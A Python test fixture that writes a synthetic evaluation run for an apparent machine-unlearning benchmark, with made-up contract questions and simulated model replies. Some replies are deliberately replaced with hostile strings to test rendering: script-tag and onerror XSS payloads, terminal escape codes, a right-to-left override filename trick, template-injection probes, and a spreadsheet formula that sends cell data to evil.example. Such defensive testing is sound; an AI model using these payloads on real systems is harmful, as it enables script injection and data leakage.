"""A small run written with the package's own writers: made-up contracts, made-up models, hostile replies."""

import csv
import math
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from vestige.artifacts.layout import RunFolder, SubjectFolder
from vestige.artifacts.records import (
    Result,
    SubjectSpec,
    Summary,
    write_collected,
    write_finished,
    write_scores,
    write_spec,
    write_summary,
)
from vestige.core.estimates import Estimate
from vestige.core.files import write_json, write_jsonl
from vestige.core.ids import content_id
from vestige.core.items import ForgetSet, Item
from vestige.core.seeds import generator
from vestige.core.settings import write_settings
from vestige.core.store import SCHEMA, write_sealed
from vestige.metrics.intervals import wilson

SALES = ["A_B", "A_C", "A_C2", "A_C3", "B_D", "B_D2", "B_D3", "E1_F1", "E2_F2", "E3_F3"]
JOBS = ["A_m", "A_n", "A_n2", "A_n3", "B_p", "B_p2", "B_p3", "E1_q1", "E2_q2", "E3_q3"]
ATTRIBUTES = (
    *("buyer name", "buyer address", "seller name", "seller address", "date", "goods", "quantity", "unit price"),
    *("total price", "invoice", "payment", "penalty", "interest", "shipping", "delivery", "warranty", "defects"),
    *("cooling off", "law", "court"),
)
FORGETS = ("edge:A_B", "edge:A_C")
SELECTOR = "random:1@dense"
"""A forget set that holds the edge A_B, though its name does not say so."""
METHODS = ("dpo", "ga", "idk_gd", "kl")

SCRIPT = "</script><script>window.pwned=1</script>"
IMAGE = "<img src=x onerror=\"window.pwned=1;document.title='pwned'\">"
ANSI = "\x1b[31mred\x1b[0m\x1b]0;title\x07 and a bell\x07"
OVERRIDE = "user\u202e gpj.exe \u2066inner\u2069 end"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
LONG = "long " + "x" * 99_995
RETURNS = "one\rtwo\r\nthree"
NUL = "before\x00after"
STRANGE = "עברית and العربية, Z̷͓͑a̴̭͐l̸͓̈g̵͎̚o̶̘͝, \u200bzero\u200dwidth, \ufeffmark, \u2028line\u2029, \ue000, 👩\u200d👩\u200d👧"
HOSTILE = (
    *(SCRIPT, IMAGE, ANSI, OVERRIDE, FORMULA, LONG, RETURNS, NUL, STRANGE),
    *("", "   ", "<!--", "${7*7} {{7*7}}"),
)


@dataclass(frozen=True)
class Behaviour:
    """The chance of a right answer on each kind of item, and what is said otherwise."""

    forget: float
    entailed: float
    retain: float
    independent: float
    factual: float
    otherwise: str = "wrong"


BEHAVIOURS: Mapping[str, Behaviour] = {
    "base": Behaviour(0.02, 0.02, 0.02, 0.02, 0.5),
    "target": Behaviour(1.0, 1.0, 0.99, 1.0, 0.98),
    "retrained": Behaviour(0.1, 1.0, 0.99, 1.0, 0.98),
    "ga": Behaviour(0.08, 0.3, 0.72, 0.83, 0.9),
    "kl": Behaviour(0.62, 0.8, 0.95, 0.99, 0.96),
    "idk_gd": Behaviour(0.0, 0.0, 0.99, 1.0, 0.97, otherwise="refuse"),
    "dpo": Behaviour(0.1, 1.0, 0.98, 1.0, 0.97),
}


def items() -> list[Item]:
    """Twenty questions a contract, then forty of general knowledge."""
    contracts = [
        Item(
            question=f"What is the {attribute} of the contract between {edge.replace('_', ' and ')}?",
            answer=f"{attribute.title()} {edge} {i * 7 % 97}.",
            edge=edge,
            group="sales" if edge in SALES else "employment",
            attribute=attribute,
        )
        for edge in (*SALES, *JOBS)
        for i, attribute in enumerate(ATTRIBUTES)
    ]
    facts = [
        Item(f"Which city is number {i} of the list?", f"City {i}", group="factual", attribute="geography")
        for i in range(40)
    ]
    return [*contracts, *facts]


def component(edge: str) -> int:
    """The component of an edge: the large one, or one of the three small ones."""
    return 1 if edge[0] in "AB" else int(edge[1]) + 1


def recall(reply: str, answer: str) -> float:
    """The share of the answer's words that the reply holds; ROUGE-1 recall but for stems."""
    wanted, said = answer.lower().rstrip(".").split(), reply.lower().rstrip(".").split()
    return sum(min(wanted.count(w), said.count(w)) for w in set(wanted)) / len(wanted)


def write_run(path: Path, *, hostile: bool = True, forgets: tuple[str, ...] = FORGETS) -> Path:
    """Write the whole run and say where it is."""
    run = RunFolder(path)
    write_settings(run.settings, {"model": "builtin:tiny", "seed": 0, "rate": 0.0001, "methods": [*METHODS]})
    write_sealed(run.provenance, provenance())
    write_edges(run)
    everything = items()
    for role in ("base", "target"):
        write_subject(run.control(role), spec(role, ""), everything, forgets, hostile)
    for forget in forgets:
        write_subject(run.control(f"retrained-{forget}"), spec("retrained", forget), everything, (forget,), hostile)
        for method in METHODS:
            own = spec("unlearned", forget, method)
            write_subject(run.cell(f"{method}-{forget}", own.settings_id), own, everything, (forget,), hostile)
    return path


def provenance() -> dict[str, object]:
    """What made the run, with a hostile command line."""
    return {
        "command": f"vestige demo --name '{SCRIPT}'",
        "commit": "0123456789abcdef",
        "versions": {"python": "3.11", "vestige": "0.1.0", "torch": "2.13"},
        "hardware": {"machine": "x86_64", "cores": 2},
        "times": {"started": "2026-11-21T10:00:00+00:00", "wall_seconds": 312.5, "cpu_seconds": 600.1},
    }


def write_edges(run: RunFolder) -> None:
    """The compiler's table of edges."""
    run.data.mkdir(parents=True)
    degree: dict[str, int] = {}
    for edge in (*SALES, *JOBS):
        for party in edge.split("_"):
            degree[party] = degree.get(party, 0) + 1
    with (run.data / "edges.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(["edge", "type", "connectivity", "component", "n_entailed", "first", "second"])
        for edge in (*SALES, *JOBS):
            first, second = edge.split("_")
            kind = "sales" if edge in SALES else "employment"
            writer.writerow([edge, kind, degree[first] + degree[second] - 1, component(edge), 2, first, second])


def spec(role: str, forget: str, method: str = "", **settings: object) -> SubjectSpec:
    """A subject's identity."""
    values = {"rate": 1e-4, "epochs": 20, **settings}
    return SubjectSpec(
        subject=role,
        name=f"{method or role} {forget}".strip(),
        model="builtin:tiny",
        method=method,
        forget=forget,
        seed=0,
        settings_id=content_id(values),
        settings=values,
        data=content_id(forget, length=32),
        parent="" if role in ("base", "target") else content_id("target", length=64),
        version=1,
        forgotten=(ForgetSet.of(forget, [i for i in items() if i.edge == edge_of(forget)]),) if forget else (),
    )


def write_subject(
    folder: SubjectFolder, own: SubjectSpec, asked: list[Item], forgets: Iterable[str], hostile: bool = True
) -> None:
    """A finished subject with its records, scores and summaries."""
    write_spec(folder.spec, own)
    done = {
        "files": {},
        "digest": content_id(str(folder.path.name), length=64),
        "steps": 100,
        "stopped": "all epochs done",
    }
    write_sealed(folder.provenance, provenance())
    write_finished(folder.done, {**done, "prompts": "0" * 16, "loss": 0.0123})
    rows = [record(own, item, i, hostile) for i, item in enumerate(asked)]
    scores = [score(row) for row in rows]
    place = folder.evaluation("qa", content_id(own.name, length=12))
    write_json(place.identity, {"schema": SCHEMA, "eval": "qa", "model": done["digest"]})
    write_jsonl(place.records, rows)
    write_sealed(place.provenance, {})
    write_collected(place, len(rows))
    write_scores(place, [{"item": r["item"], **s} for r, s in zip(rows, scores, strict=True)])
    for forget in forgets:
        edge = edge_of(forget)
        write_summary(place, Summary("qa", 1, own, forget, splits(asked, edge), results(asked, scores, edge)))


def record(own: SubjectSpec, item: Item, index: int, hostile: bool) -> dict[str, object]:
    """What one model said to one question."""
    behaviour = BEHAVIOURS.get(own.method or own.subject, BEHAVIOURS["ga"])
    draw = generator(0, own.name, item.id).random()
    right = draw < chance(behaviour, edge_of(own.forget), item)
    said = item.answer if right else ("I do not know that." if behaviour.otherwise == "refuse" else f"Wrong {index}.")
    if hostile and own.subject == "unlearned" and item.edge == "A_C2" and index % 20 < len(HOSTILE):
        said = HOSTILE[index % 20]
    return {
        "item": item.id,
        "question": item.question,
        "answer": item.answer,
        "edge": item.edge,
        "group": item.group,
        "attribute": item.attribute,
        "reply": said,
        "finish": "length" if said == LONG else "stop",
        "logp": [-0.05 if right else -3.0],
    }


def chance(behaviour: Behaviour, forget: str, item: Item) -> float:
    """How often a behaviour is right about an item."""
    if item.group == "factual":
        return behaviour.factual
    if forget and item.edge == forget:
        return behaviour.entailed if item.attribute in ATTRIBUTES[:4] else behaviour.forget
    if item.edge is not None and component(item.edge) != 1:
        return behaviour.independent
    return behaviour.retain


def score(row: Mapping[str, object]) -> dict[str, float]:
    """The values of one record."""
    reply, answer, logp = str(row["reply"]), str(row["answer"]), row["logp"]
    assert isinstance(logp, list)
    return {
        "rouge1_recall": recall(reply, answer),
        "exact_match": float(reply == answer),
        "share_empty": float(not reply.strip()),
        "share_truncated": float(row["finish"] == "length"),
        "share_refused": float(reply.startswith("I do not know")),
        "probability": math.exp(logp[0]),
        "answer_bits": logp[0] / math.log(2),
    }


def edge_of(forget: str) -> str:
    """The edge that a forget set holds. None for no forget set."""
    return "A_B" if forget == SELECTOR else forget.removeprefix("edge:")


def splits(asked: list[Item], forget: str) -> dict[str, tuple[str, ...]]:
    """The ids of the items in each split."""
    found: dict[str, tuple[str, ...]] = {}
    for item in asked:
        for split, scope in places_of(item, forget):
            if scope == "all" and not split.startswith("edge:"):
                found[split] = (*found.get(split, ()), item.id)
    return found


def results(asked: list[Item], scores: list[dict[str, float]], forget: str) -> tuple[Result, ...]:
    """Every estimate of one forget set."""
    places: dict[tuple[str, str], list[int]] = {}
    for i, item in enumerate(asked):
        for place in places_of(item, forget):
            places.setdefault(place, []).append(i)
    return tuple(
        Result(
            split,
            scope,
            "forced" if metric in ("probability", "answer_bits") else "generate",
            "",
            estimate(metric, [scores[i][metric] for i in held]),
        )
        for (split, scope), held in places.items()
        for metric in scores[0]
    )


def places_of(item: Item, forget: str) -> list[tuple[str, str]]:
    """The splits and scopes that an item counts in."""
    if item.edge is None:
        return [("factual", "all")]
    own = [(f"edge:{item.edge}", "all")]
    if item.edge == forget:
        scope = (
            "entailed"
            if item.attribute in ATTRIBUTES[1:4:2]
            else "guessable"
            if item.attribute in ATTRIBUTES[:3:2]
            else "free"
        )
        return [*own, ("forget", "all"), ("forget", scope)]
    if component(item.edge) != 1:
        return [*own, ("retain", "all"), ("independent", "all"), (f"independent_{item.group}", "all")]
    return [*own, ("retain", "all")]


def estimate(metric: str, values: list[float]) -> Estimate:
    """A mean with an interval."""
    if metric == "answer_bits":
        mean, half = float(np.mean(values)), float(np.std(values)) / math.sqrt(len(values)) + 0.1
        return Estimate(metric, "bits", mean, mean - half, mean + half, len(values), "normal")
    # As if every score were a share of hits.
    low, high, said = wilson(round(math.fsum(values)), len(values))
    mean = math.fsum(values) / len(values)
    return Estimate(metric, "share", mean, min(low, mean), max(high, mean), len(values), said)
